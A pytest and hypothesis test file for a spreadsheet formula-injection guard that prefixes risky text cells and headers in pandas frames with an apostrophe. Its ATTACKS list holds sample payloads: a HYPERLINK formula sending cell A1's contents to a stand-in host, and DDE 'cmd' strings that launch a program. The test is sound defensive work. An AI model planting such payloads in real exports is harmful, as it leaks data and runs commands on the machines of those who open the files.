"""Formula injection: text cells that a spreadsheet would run are neutralised; everything else is unchanged."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from scoring.formula_guard import QUOTE, TRIGGERS, neutralise, neutralise_frame

ATTACKS = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formulas_get_a_leading_apostrophe(text: str) -> None:
    assert neutralise(text) == QUOTE + text


@pytest.mark.parametrize("text", ["-1", "+2", "-2,5", "+0.75", "-3e2", "1", "abc", "", "Kota Banjarbaru", "'=1+1", " =1"])
def test_numbers_and_plain_text_stay(text: str) -> None:
    assert neutralise(text) == text


def test_frame_text_columns_headers_and_mixed_columns() -> None:
    frame = pd.DataFrame(
        {
            "catatan": pd.Series(["=1+1", "baik", None, "-1"], dtype="str"),
            "nilai": [1.0, -2.0, np.nan, 4.0],
            "campur": pd.Series(["@x", 5, None, "ok"], dtype=object),
            "=judul": ["a", "b", "c", "d"],
            "flag": [True, False, True, False],
        }
    )
    safe = neutralise_frame(frame)
    assert safe.columns.tolist() == ["catatan", "nilai", "campur", "'=judul", "flag"]
    assert safe["catatan"].tolist()[:2] == ["'=1+1", "baik"] and pd.isna(safe["catatan"][2]) and safe["catatan"][3] == "-1"
    # Numbers stay numbers, in a numeric column and in a mixed one.
    assert safe["nilai"].dtype == np.float64 and safe["nilai"].tolist()[:2] == [1.0, -2.0]
    assert safe["campur"].tolist()[:2] == ["'@x", 5] and safe["campur"][3] == "ok"
    assert safe["flag"].dtype == bool
    pd.testing.assert_index_equal(safe.index, frame.index)


_TEXT = st.text(st.sampled_from(list("=+-@\t\r'\"a1,.;e ")), max_size=8)


@given(st.lists(_TEXT, min_size=1, max_size=20))
def test_only_cells_starting_with_a_trigger_change_and_none_stays_runnable(cells: list[str]) -> None:
    safe = neutralise_frame(pd.DataFrame({"teks": pd.Series(cells, dtype="str")}))["teks"].tolist()
    for before, after in zip(cells, safe, strict=True):
        assert after in (before, QUOTE + before)
        if after != before:
            assert before.startswith(TRIGGERS)
        if after.startswith(TRIGGERS):
            float(after.replace(",", "."))  # only a plain number may still start with a trigger
